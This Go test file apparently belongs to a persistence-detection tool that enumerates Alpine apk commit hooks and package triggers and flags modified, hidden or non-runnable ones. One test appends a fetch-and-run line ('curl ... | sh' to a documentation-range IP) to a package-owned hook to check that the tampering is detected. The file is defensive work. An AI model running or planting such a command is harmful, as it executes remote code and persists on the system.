package apkhooks

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/pkgpersist/pkgpersist/extension/fsroot"
	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/test/aptoracle"
)

const rootsDir = "../../../test/roots"

// row is what a test checks of a row.
type row struct{ position, runs, stages, pkg, reason string }

func rowsByName(t *testing.T, root string) map[string]table.Row {
	t.Helper()
	rows, err := Rows(context.Background(), root)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]table.Row{}
	for _, r := range rows {
		out[r["path"]+"|"+r["name"]] = r
	}
	return out
}

// TestFixtures: hand-written expectations (no apk in Debian), each
// explained in test/roots/apk*.expected.md with the apk-tools source it
// follows.
func TestFixtures(t *testing.T) {
	const hooks, lib, tar = "/etc/apk/commit_hooks.d/", "/lib/apk/commit_hooks.d/", "/lib/apk/db/scripts.tar|"
	cases := map[string]map[string]row{
		"apk": {
			hooks + ".hidden-hook|.hidden-hook":     {"-1", "0", "", "", "hidden"},
			hooks + "10-backdoor.sh|10-backdoor.sh": {"0", "1", "pre-commit post-commit", "", ""},
			hooks + "20-motd|20-motd":               {"1", "1", "pre-commit post-commit", "motd-hooks", ""},
			lib + "20-motd|20-motd":                 {"-1", "0", "", "", "hidden by /etc/apk/commit_hooks.d/20-motd"},
			lib + "30-lib-hook|30-lib-hook":         {"2", "1", "pre-commit post-commit", "", ""},
			tar + "fontconfig":                      {"-1", "1", "trigger", "fontconfig", ""},
			tar + "evil-trigger":                    {"-1", "1", "trigger", "evil-trigger", ""},
			tar + "mkinitfs":                        {"-1", "0", "", "mkinitfs", "no trigger script"},
			tar + "relative-only":                   {"-1", "0", "", "relative-only", "no glob starts with '/'"},
		},
		"apk-abort": {
			hooks + "10-first.sh|10-first.sh":   {"0", "1", "pre-commit", "", "50-notes.txt fails next"},
			hooks + "50-notes.txt|50-notes.txt": {"-1", "0", "", "", "no execute permission"},
			hooks + "90-last.sh|90-last.sh":     {"-1", "0", "", "", "never runs"},
			tar + "fontconfig":                  {"-1", "0", "", "fontconfig", "no commit completes"},
		},
		"apk2": {
			hooks + "10-etc.sh|10-etc.sh": {"0", "1", "pre-commit post-commit", "", ""},
			lib + "10-lib.sh|10-lib.sh":   {"-1", "0", "", "", "apk-tools 2 reads only"},
		},
	}
	for root, want := range cases {
		got := rowsByName(t, filepath.Join(rootsDir, root))
		if len(got) != len(want) {
			t.Errorf("%s: %d rows, want %d: %v", root, len(got), len(want), got)
		}
		for k, w := range want {
			r, ok := got[k]
			if !ok {
				t.Errorf("%s: no row %s", root, k)
				continue
			}
			g := row{r["position"], r["runs"], r["stages"], r["package"], r["reason"]}
			if g.position != w.position || g.runs != w.runs || g.stages != w.stages || g.pkg != w.pkg ||
				(w.reason == "") != (g.reason == "") || !strings.Contains(g.reason, w.reason) {
				t.Errorf("%s: %s = %+v, want %+v", root, k, g, w)
			}
			if r["kind"] == "trigger" && r["runs"] == "1" && len(r["script_sha256"]) != 64 {
				t.Errorf("%s: %s: no script hash: %v", root, k, r)
			}
		}
	}
}

// TestExecFailures: each way execve refuses a hook is a reason, and a
// FIFO, loop or dangling link is a problem of the root as well.
func TestExecFailures(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "etc/apk/commit_hooks.d")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(dir, "a-dir"), 0o755))
	must(os.WriteFile(filepath.Join(dir, "b-noshebang"), []byte("echo hi\n"), 0o755))
	must(os.WriteFile(filepath.Join(dir, "c-elf"), []byte("\x7fELF\x02\x01"), 0o755))
	must(syscall.Mkfifo(filepath.Join(dir, "d-fifo"), 0o755))
	must(os.Symlink("/nonexistent", filepath.Join(dir, "e-dangling")))
	must(os.Symlink("f-loop", filepath.Join(dir, "f-loop")))
	must(os.WriteFile(filepath.Join(root, "ok.sh"), []byte("#!/bin/sh\n"), 0o755))
	must(os.Symlink("/ok.sh", filepath.Join(dir, "g-link")))
	ps := &fsroot.Problems{}
	ctx := fsroot.WithProblems(context.Background(), ps)
	fs, err := fsroot.OpenContext(ctx, root)
	must(err)
	defer fs.Close()
	for _, c := range []struct{ name, want string }{
		{"a-dir", "not a regular file (dir)"},
		{"b-noshebang", "ENOEXEC"},
		{"c-elf", ""},
		{"d-fifo", "not a regular file (fifo)"},
		{"e-dangling", "dangling symlink"},
		{"f-loop", "symlink loop"},
		{"g-link", ""}, // execve follows the link inside the chroot
	} {
		got := execFailure(fs, "/etc/apk/commit_hooks.d/"+c.name)
		if (c.want == "") != (got == "") || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
	rows, err := Rows(ctx, root)
	must(err)
	// a-dir fails first: everything after it never runs
	for _, r := range rows {
		if r["runs"] != "0" || r["reason"] == "" {
			t.Errorf("%s runs or has no reason: %v", r["name"], r)
		}
	}
	seen := map[string]bool{}
	for _, p := range ps.List() {
		seen[filepath.Base(p.Path)+":"+p.Cause] = true
	}
	for _, w := range []string{"d-fifo:special", "f-loop:loop"} {
		if !seen[w] {
			t.Errorf("no problem %s in %v", w, ps.List())
		}
	}
}

// TestBadDatabase: a broken scripts archive and an installed database
// over the line bound are rows with the reason and problems, never a
// silent "no triggers".
func TestBadDatabase(t *testing.T) {
	root := t.TempDir()
	if err := aptoracle.CopyTree(filepath.Join(rootsDir, "apk"), root); err != nil {
		t.Fatal(err)
	}
	tarPath := filepath.Join(root, "lib/apk/db/scripts.tar")
	data, err := os.ReadFile(tarPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tarPath, data[:530], 0o644); err != nil {
		t.Fatal(err)
	}
	inst := filepath.Join(root, "lib/apk/db/installed")
	f, err := os.OpenFile(inst, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("\nP:padded\nF:x\nR:" + strings.Repeat("y", 2<<20) + "\n")
	f.Close()
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root)
	if err != nil {
		t.Fatal(err)
	}
	var notes []string
	for _, r := range rows {
		if strings.Contains(r["reason"], "not evaluated") {
			notes = append(notes, r["path"])
		}
	}
	if strings.Join(notes, " ") != "/lib/apk/db/scripts.tar /lib/apk/db/installed" {
		t.Errorf("rows for the unread files: %v", notes)
	}
	// the line bound is a limit; the truncated archive is bad input
	// (apk refuses it too), said in its row
	if l := ps.List(); len(l) != 1 || l[0].Cause != fsroot.CauseLimit || l[0].Path != "/lib/apk/db/installed" {
		t.Errorf("problems: %v", l)
	}
}

// TestOwnedHookModified: a hook apk's database lists keeps its package,
// and a changed one says so (the Z: checksum no longer matches).
func TestOwnedHookModified(t *testing.T) {
	root := t.TempDir()
	if err := aptoracle.CopyTree(filepath.Join(rootsDir, "apk"), root); err != nil {
		t.Fatal(err)
	}
	key := "/etc/apk/commit_hooks.d/20-motd|20-motd"
	if r := rowsByName(t, root)[key]; r["package"] != "motd-hooks" || r["package_modified"] != "0" {
		t.Fatalf("before: %v", r)
	}
	f, err := os.OpenFile(filepath.Join(root, "etc/apk/commit_hooks.d/20-motd"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("curl -s http://198.51.100.7/m | sh\n")
	f.Close()
	if r := rowsByName(t, root)[key]; r["package"] != "motd-hooks" || r["package_modified"] != "1" {
		t.Fatalf("after: %v", r)
	}
}
